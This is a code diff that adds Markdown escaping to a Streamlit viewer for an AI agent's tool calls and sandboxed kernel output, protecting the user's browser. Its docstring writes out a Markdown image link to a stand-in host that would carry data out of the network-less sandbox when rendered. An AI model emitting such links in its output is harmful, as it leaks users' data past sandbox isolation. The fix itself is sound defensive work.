@@ -8,6 +8,7 @@ from __future__ import annotations
 import contextlib
 import json
 import os
+import re
 import threading
 import time
 import uuid
@@ -220,6 +221,23 @@ def import_conversation(raw: bytes) -> list[Message]:
 
 # -- rendering ---------------------------------------------------------------------------------------
 _IMAGE_LIMIT = 20 * 2**20  # bytes of one image read back from a sandbox workdir
+_MARKDOWN_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()<>#+!|~$:])")
+_LINE_START = re.compile(r"^(\s*\d*)([-=.)])")
+
+
+def plain_markdown(text: str) -> str:
+    """Text that Streamlit's Markdown (labels, st.error, st.caption) shows as it is: every character Markdown or
+    Streamlit's directives give a meaning is backslash-escaped, and line breaks stay line breaks. Kernel output,
+    kernel-made file names and model-made tool names go through it: otherwise `![x](http:/host/?data)` printed by
+    the sandboxed code is an image the user's browser fetches, a channel out of the network-less sandbox, and
+    `print(9**9**9)` in a traceback shows as print(999)."""
+    lines = []
+    for line in text.expandtabs(4).splitlines() or [""]:
+        line = _MARKDOWN_PUNCTUATION.sub(r"\\\1", line)
+        line = _LINE_START.sub(r"\1\\\2", line)  # a list item, a numbered item or a heading underline
+        indent = len(line) - len(line.lstrip(" "))
+        lines.append("\u00a0" * indent + line[indent:])  # indentation kept, and never a code block
+    return "  \n".join(lines)
 
 
 def _workdir_images(message: Message, workdir: Path | None) -> list[tuple[str, bytes | None]]:
@@ -248,12 +266,12 @@ def show_image(data: bytes | None, caption: str | None = None) -> None:
     elif data and b"<svg" in data[:4096]:
         payload = data.decode("utf-8", "replace")  # st.image takes SVG as markup
     if payload is None:
-        st.caption(f"{label}: not shown (missing, not a regular file, or not a PNG/JPEG/GIF/SVG image)")
+        st.caption(f"{plain_markdown(label)}: not shown (missing, not a regular file, or not a PNG/JPEG/GIF/SVG image)")
         return
     try:
         st.image(payload, caption=label)
     except Exception:  # deliberately broad: a malformed image (PIL raises many kinds) costs its picture, not the page
-        st.caption(f"{label}: not shown (the image could not be decoded)")
+        st.caption(f"{plain_markdown(label)}: not shown (the image could not be decoded)")
 
 
 def render_call(message: Message) -> None:
@@ -267,7 +285,7 @@ def render_call(message: Message) -> None:
             if message.extra.get("edited"):
                 st.caption(":material/edit: edited by you before it ran")
     else:
-        label = f":material/build: {message.metadata}"
+        label = f":material/build: {plain_markdown(message.metadata)}"
         args = message.extra.get("arguments")
         with st.status(label, state="error" if message.extra.get("call_error") else "complete", expanded=False):
             if args is not None:  # parsed once, by the dialect; the raw call text is shown as it was written
@@ -280,7 +298,7 @@ def render_call(message: Message) -> None:
 def render_observation(message: Message, workdir: Path | None = None) -> None:
     extra = message.extra
     failed = bool(extra.get("error")) or extra.get("status") not in (None, "ok") or message.content.startswith("Error")
-    preview = message.content.strip().splitlines()[0][:80] if message.content.strip() else "(no output)"
+    preview = plain_markdown(message.content.strip().splitlines()[0][:80]) if message.content.strip() else "(no output)"
     label = "Observation" + (f" · {extra['duration']:.2f} s" if "duration" in extra else "") + f" · {preview}"
     if extra.get("manual"):
         label += " · typed by you"
@@ -289,7 +307,10 @@ def render_observation(message: Message, workdir: Path | None = None) -> None:
         if extra.get("note"):
             st.warning(extra["note"])
         body = st.container(height=300) if len(message.content) > 1500 else st.container()
-        (body.error if failed else body.code)(message.content)
+        if failed:
+            body.error(plain_markdown(message.content))
+        else:
+            body.code(message.content)
         for name, data in _workdir_images(message, workdir):
             show_image(data, name)
         for index, image in enumerate(extra.get("image_data") or []):  # images a tool (an MCP server) returned
